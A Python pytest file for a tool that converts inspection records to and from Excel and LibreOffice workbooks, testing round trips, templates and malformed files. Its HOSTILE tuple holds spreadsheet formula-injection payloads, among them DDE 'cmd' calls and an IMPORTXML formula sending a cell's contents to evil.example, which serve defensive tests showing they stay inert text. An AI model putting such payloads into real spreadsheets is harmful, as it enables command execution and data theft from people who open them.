"""Workbooks: what goes in comes out, whatever it is, and what is wrong in one is told by sheet and cell."""

from __future__ import annotations

import io
import re
import shutil
import zipfile
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import pytest
import xlsxwriter
from hypothesis import given

from peelgrade import bundled, cellnames, formats, loading, parsing, tables
from peelgrade.capturing import drawing, filing, filling, gathering, marking, matching
from peelgrade.capturing.checking import checked
from peelgrade.capturing.contents import taken
from peelgrade.capturing.filling import Files
from peelgrade.capturing.layout import layout
from peelgrade.evidence import Checks, Waiver
from peelgrade.loading import Quoted
from peelgrade.pipeline import RECORD, Reading, named_rules, read_inspection, read_rulebook
from peelgrade.problems import Unreadable
from peelgrade.validation import Checker
from tests.conftest import KENT, read_kent, replace
from tests.properties import MANY_WORKBOOKS, QUICK
from tests.strategies import Chance, metric
from tests.strategies_of_workbooks import drawn, files


def there_and_back(inspection: Files, folder: Path) -> Files:
    """Write an inspection as a workbook, that as files, and read those."""
    general = layout()
    path = folder / "evidence.xlsx"
    path.write_bytes(drawing.written(general, filling.filled(general, inspection)))
    found = matching.matched(tables.sheets(path), general, path.name)
    contents = taken(found, general)
    assert [] == contents.problems
    texts = filing.texts(contents.record.data, filing.divided(contents.items, None), general, for_editors=False)
    items = {name: read(name, text, "evidence") for name, text in texts.items() if name != RECORD}
    return Files(read(RECORD, texts[RECORD], "inspection"), items)


def read(name: str, text: str, format_: formats.Format) -> Any:
    """Read the text of a file, as the pipeline does."""
    source, refused = loading.read_bytes(text.encode(), name)
    typed, problems = Checker(formats.read(format_)).check(source.data, name, Quoted)
    assert [] == refused + problems
    if format_ == "inspection":
        value, problems = parsing.inspection(typed, name)
        assert [] == problems
        return value
    parsed = [parsing.item(entry, name, (n,)) for n, entry in enumerate(typed)]
    assert [] == [problem for _, found in parsed for problem in found]
    return tuple(value for value, _ in parsed)


def said(inspection: Files) -> tuple[str, dict[str, list[str]]]:
    """Return everything that an inspection says, figures as they are written: equal figures may have other decimals."""
    by_file = {name: [repr(item) for item in items] for name, items in sorted(inspection.items.items())}
    return repr(inspection.record), by_file


@pytest.mark.slow
@given(inspection=files())
@QUICK
def test_what_does_not_come_back_from_a_workbook_is_told_shortly_from_a_workbook_as_it_was(
    inspection: Files, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """The same as below with draws that shrink, for whoever looks for the cause of a failure."""
    assert said(inspection) == said(there_and_back(inspection, tmp_path_factory.getbasetemp()))


@pytest.mark.sampled(4)
@pytest.mark.parametrize("seed", range(24))
def test_an_inspection_comes_back_from_a_workbook_as_it_was(seed: int, tmp_path: Path) -> None:
    """YAML to workbook to YAML is the identity: every text, figure and day, and the order in every file."""
    inspection = drawn(Chance.seeded(seed))
    assert said(inspection) == said(there_and_back(inspection, tmp_path))


@pytest.mark.slow
def test_very_many_inspections_come_back_from_workbooks_as_they_were(tmp_path: Path) -> None:
    """The same for as many inspections as CI has time for; PEELGRADE_WORKBOOKS=2000 tries two thousand."""
    for seed in range(MANY_WORKBOOKS):
        inspection = drawn(Chance.seeded(seed))
        assert said(inspection) == said(there_and_back(inspection, tmp_path)), seed


HOSTILE = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","click")',
    '+IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "http://evil.example/",
    "mailto:a@evil.example",
    "<script>alert(1)</script>",
    "<r><t>=1+1</t></r>",
    "{=1+1}",
)


class TestHostileText:
    """What begins like a formula or a link is text, in cells, in comments and in the list of problems."""

    def parts(self, raw: bytes) -> dict[str, str]:
        """Return the parts of a workbook."""
        with zipfile.ZipFile(io.BytesIO(raw)) as archive:
            return {name: archive.read(name).decode() for name in archive.namelist()}

    def assert_harmless(self, parts: dict[str, str]) -> None:
        """Hold that there is no formula, no link out, and nothing that is fetched."""
        for name, text in parts.items():
            if name.startswith("xl/worksheets/sheet"):
                assert "<f>" not in text, name
                assert "<f " not in text, name
            assert 'TargetMode="External"' not in text, name
            assert "evil.example" not in text or name == "xl/sharedStrings.xml" or "comments" in name, name

    def test_cells_hold_it_as_text(self, tmp_path: Path) -> None:
        """Every text comes back as it was, and is no formula on the way."""
        general = layout()
        rows = [{"Id": f"F{n}", "Statement": text, "Note": text} for n, text in enumerate(HOSTILE)]
        raw = drawing.written(general, {"Findings": rows})
        self.assert_harmless(self.parts(raw))
        (tmp_path / "w.xlsx").write_bytes(raw)
        (sheet,) = (one for one in tables.sheets(tmp_path / "w.xlsx") if one.name == "Findings")
        assert list(HOSTILE) == [row[3] for row in sheet.rows[1:]]

    def test_the_copy_that_is_handed_back_does_nothing(self, tmp_path: Path) -> None:
        """Also where it is the name of a sheet, a head, or told in a comment."""
        path = tmp_path / "w.xlsx"
        book = xlsxwriter.Workbook(path, {"strings_to_formulas": False, "strings_to_urls": False})
        sheet = book.add_worksheet("Findings")
        for n, text in enumerate(("Id", "Question", "Weight", *HOSTILE)):
            sheet.write_string(0, n, text)
        for n, text in enumerate(HOSTILE, start=1):
            for column in range(3):
                sheet.write_string(n, column, text)
        book.add_worksheet("=cmd|' !A0 x").write_string(0, 0, "=1+1")
        sheet.write_formula(20, 0, '=HYPERLINK("http://evil.example")', None, "=1+1")
        book.close()
        grids = tables.sheets(path)
        found = checked(grids, "w.xlsx")
        parts = self.parts(drawing.annotated(layout(), grids, marking.heads(found), marking.marks(found)))
        self.assert_harmless(parts)
        assert any("comments" in name for name in parts)


@pytest.mark.slow
def test_what_an_item_ignores_comes_back_beside_the_place(tmp_path: Path) -> None:
    """A comment that ignores a problem goes through a workbook, and silences the same."""
    shutil.copytree(KENT, tmp_path / "kent")
    told = "  # peelgrade: ignore[PG536] the report says so"
    path = tmp_path / "kent" / "q2-investigation.yaml"
    line = "    - {metric: M239, says: similar, comparator: most_forces}"
    replace(path, line, line + told)
    made = gathering.gathered(tmp_path / "kent", read_inspection(tmp_path / "kent"))
    assert {"F202": ["PG536 the report says so"]} == made.ignored
    (tmp_path / "w.xlsx").write_bytes(drawing.written(layout(), filling.filled(layout(), made)))
    found = checked(tables.sheets(tmp_path / "w.xlsx"), "w.xlsx")
    assert () == found.problems
    assert f"{told[1:]}\n{line}" in found.texts["q2-investigation.yaml"].replace("    # ", " # ")


def test_a_text_that_no_cell_holds_is_refused_by_name() -> None:
    """What is longer than a cell is told of, all of it, and nothing is cut off."""
    inspection = drawn(Chance.seeded(1))
    record = inspection.record.model_copy(update={"waiver": Waiver(reason="\U0001f600" * 16_384)})
    with pytest.raises(Unreadable, match=r"'Waiver: reason' of .* has 32,768 characters"):
        filling.filled(layout(), Files(record, {}))
    with pytest.raises(Unreadable, match="a text of 32,768 characters does not fit into a cell"):
        drawing.written(layout(), {"Findings": [{"Statement": "x" * 32_768}]})


def test_what_is_there_and_empty_comes_back_as_that(tmp_path: Path) -> None:
    """A metric whose checks name nothing has checks all the same; one without them has none."""
    metrics = (metric("M1", "q").model_copy(update={"checks": Checks()}), metric("M2", "q"))
    inspection = Files(drawn(Chance.seeded(1)).record, {"q.yaml": metrics})
    (items,) = there_and_back(inspection, tmp_path).items.values()
    assert [Checks(), None] == [one.checks for one in items]


@pytest.mark.slow
def test_kent_comes_back_as_it_was(tmp_path: Path) -> None:
    """A real inspection goes through a workbook: the same items in the same files, and the same record."""
    read_ = read_kent()
    made = gathering.gathered(KENT, read_)
    known = layout(read_.rulebook.framework)
    (tmp_path / "w.xlsx").write_bytes(drawing.written(known, filling.filled(known, made)))
    found = checked(tables.sheets(tmp_path / "w.xlsx"), "w.xlsx")
    assert found.read is not None
    assert repr(read_.inspection) == repr(found.read.inspection)
    assert sorted([RECORD, *made.items]) == sorted(found.texts)


CONTENT = """<?xml version="1.0" encoding="UTF-8"?>
<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
 xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"
 xmlns:calcext="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0">
<office:body><office:spreadsheet><table:table table:name="Findings">{rows}</table:table></office:spreadsheet></office:body>
</office:document-content>"""


class TestOpenDocument:
    """Workbooks of LibreOffice."""

    def write(self, folder: Path, rows: str, manifest: str = "") -> Path:
        """Write the rows of a sheet as a workbook."""
        path = folder / "w.ods"
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
            archive.writestr("META-INF/manifest.xml", f"<manifest>{manifest}</manifest>")
            archive.writestr("content.xml", CONTENT.format(rows=rows))
        return path

    def row(self, *cells: str, attributes: str = "") -> str:
        """Return a row of texts."""
        told = (
            f'<table:table-cell office:value-type="string"><text:p>{one}</text:p></table:table-cell>' for one in cells
        )
        return f"<table:table-row {attributes}>{''.join(told)}</table:table-row>"

    def test_cells_and_hidden_rows_are_read(self, tmp_path: Path) -> None:
        """A sheet has its texts where they stand, and rows that a filter hides are known."""
        hidden = self.row("F1", "a", attributes='table:visibility="filter"')
        (grid,) = tables.sheets(self.write(tmp_path, self.row("Id", "Statement") + hidden))
        assert (("Id", "Statement"), ("F1", "a")) == grid.rows
        assert {1} == grid.survey.hidden_rows

    @pytest.mark.parametrize(
        "attributes", ['table:number-rows-repeated="1048576"', 'table:number-rows-repeated="60000"']
    )
    def test_a_row_that_is_repeated_very_often_is_refused(self, tmp_path: Path, attributes: str) -> None:
        """One row in the file would be a million in memory."""
        with pytest.raises(Unreadable, match="reaches to row"):
            tables.sheets(self.write(tmp_path, self.row("F1", attributes=attributes)))

    def test_a_cell_without_anything_reaches_nowhere(self, tmp_path: Path) -> None:
        """Blank cells of a row are passed over, however often they are repeated."""
        blank = '<table:table-row><table:table-cell table:number-columns-repeated="16384"/></table:table-row>'
        (grid,) = tables.sheets(self.write(tmp_path, self.row("Id") + blank))
        assert (("Id",),) == tuple(tuple(cell for cell in row if cell) for row in grid.rows if any(row))

    def test_a_document_that_is_no_table_is_told(self, tmp_path: Path) -> None:
        """A letter of LibreOffice is such a file as well, and is no workbook."""
        path = tmp_path / "letter.odt"
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("content.xml", "<document><body/></document>")
        with pytest.raises(Unreadable, match="is no workbook"):
            tables.sheets(path)

    def test_a_password_is_told(self, tmp_path: Path) -> None:
        """What is encrypted cannot be read."""
        with pytest.raises(Unreadable, match="locked by a password"):
            tables.sheets(self.write(tmp_path, "", "<encryption-data/>"))


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a template for the framework of Kent."""
    rulebook = read_rulebook(*named_rules("peel-effectiveness-2015"), Reading())
    assert rulebook is not None
    path = tmp_path_factory.mktemp("template") / "t.xlsx"
    rows = {"Inspection": [{"Framework": rulebook.framework.id}]}
    path.write_bytes(drawing.written(layout(rulebook.framework), rows, examples=True))
    return path


class TestTemplate:
    """The workbook that inspectors are given."""

    def validations(self, path: Path, number: int) -> dict[str, dict[str, str]]:
        """Return what is said of the cells of a sheet, by the letters of their columns."""
        with zipfile.ZipFile(path) as archive:
            root = ET.fromstring(archive.read(f"xl/worksheets/sheet{number}.xml"))  # noqa: S314  # we wrote it
        found = {}
        for one in root.iter():
            if one.tag.endswith("}dataValidation"):
                listed = next((inside.text or "" for inside in one if inside.tag.endswith("}formula1")), "")
                column = re.match("[A-Z]+", one.get("sqref", ""))
                found[column[0] if column else ""] = {**one.attrib, "list": listed}
        return found

    def test_every_list_holds_the_words_of_the_framework(self, template: Path) -> None:
        """A drop-down shows the words of its column, from the sheet that says what they mean."""
        rulebook = read_rulebook(*named_rules("peel-effectiveness-2015"), Reading())
        assert rulebook is not None
        known = layout(rulebook.framework)
        grids = {grid.name: grid for grid in tables.sheets(template)}
        checks = 0
        for number, grid in enumerate(grids.values(), start=1):
            sheet = known.by_name.get(grid.name)
            if sheet is None or sheet.upright:
                continue
            told = self.validations(template, number)
            for n, column in enumerate(sheet.columns):
                about = told[cellnames.letters(n)]
                assert about["prompt"].startswith(column.about[:200])
                if column.words:
                    first, last = re.findall(r"\$([A-Z]+)\$([0-9]+)", about["list"])
                    left = xlsxwriter.utility.xl_cell_to_rowcol(f"{first[0]}1")[1]
                    rows = range(int(first[1]) - 1, int(last[1]))
                    assert list(column.choices) == [grids["Vocabulary"].at(row, left) for row in rows]
                    checks += 1
        assert checks > 40

    def test_columns_for_the_doubts_of_both_coders_are_there(self, template: Path) -> None:
        """Whoever codes and whoever checks finds where to say so; the head stays in view."""
        grid = next(one for one in tables.sheets(template) if one.name == "Findings")
        assert {"Or weight", "Or extent", "Coded by", "Checked by", "Note"} <= set(grid.rows[0])
        with zipfile.ZipFile(template) as archive:
            sheet = archive.read("xl/worksheets/sheet5.xml").decode()
        assert '<pane xSplit="1" ySplit="1" topLeftCell="B2"' in sheet

    @pytest.mark.parametrize("framework", bundled.frameworks())
    def test_the_examples_of_items_would_be_read_without_errors(self, framework: str, tmp_path: Path) -> None:
        """With their mark taken off, and with the record and the document filled in, they are a sound inspection."""
        rulebook = read_rulebook(*named_rules(framework), Reading())
        assert rulebook is not None
        known = layout(rulebook.framework)
        (tmp_path / "t.xlsx").write_bytes(drawing.written(known, {}, examples=True))
        rows: dict[str, list[dict[str, str]]] = {
            "Inspection": [
                {"Id": "kent-2015", "Force: id": "kent", "Force: name": "Kent Police", "Framework": framework}
            ],
            "Questions": [{"Question": rulebook.framework.questions.id}],
        }
        for grid in tables.sheets(tmp_path / "t.xlsx"):
            if grid.name in {"Documents", "Findings", "Metrics", "Recommendations"} and len(grid.rows) > 1:
                heads = [str(head).removesuffix(drawing.NEEDED) for head in grid.rows[0]]
                said = dict(zip(heads, map(str, grid.rows[1]), strict=True))
                rows[grid.name] = [{head: text.removeprefix("e.g. ") for head, text in said.items() if text}]
        (tmp_path / "t.xlsx").write_bytes(drawing.written(known, rows))
        found = checked(tables.sheets(tmp_path / "t.xlsx"), "t.xlsx")
        assert [] == [(one.at.cell, one.message) for one in found.problems if one.severity == "error"]
        assert found.read is not None
        kinds = ["finding", "metric", "recommendation"] if rulebook.measures else ["finding", "recommendation"]
        assert kinds == sorted(item.kind for item in found.read.inspection.items)
        assert not any(item.withdrawn for item in found.read.inspection.items)

    def test_what_a_column_without_words_may_say_is_shown_at_its_cells(self, template: Path) -> None:
        """An example stands in the hint, so that it is there for columns that the example row leaves empty."""
        told = self.validations(template, 5)
        assert "E.g. PG536 the report words it so" in told[self.letters(template, "Ignored")]["prompt"]
        assert "E.g." not in told[self.letters(template, "Ground")]["prompt"]

    def letters(self, template: Path, title: str) -> str:
        """Return the letters of a column of the findings."""
        grid = next(one for one in tables.sheets(template) if one.name == "Findings")
        return cellnames.letters([str(head).removesuffix(drawing.NEEDED) for head in grid.rows[0]].index(title))

    def test_nothing_of_it_is_evidence(self, template: Path) -> None:
        """The examples are passed over, and what is missing is told of once."""
        found = checked(tables.sheets(template), "t.xlsx")
        assert [
            ("Inspection!B2", "PG203"),
            ("Inspection!B3", "PG203"),
            ("Documents!A2", "PG203"),
            ("Questions!A2", "PG203"),
        ] == [(one.at.cell, one.code) for one in found.problems]
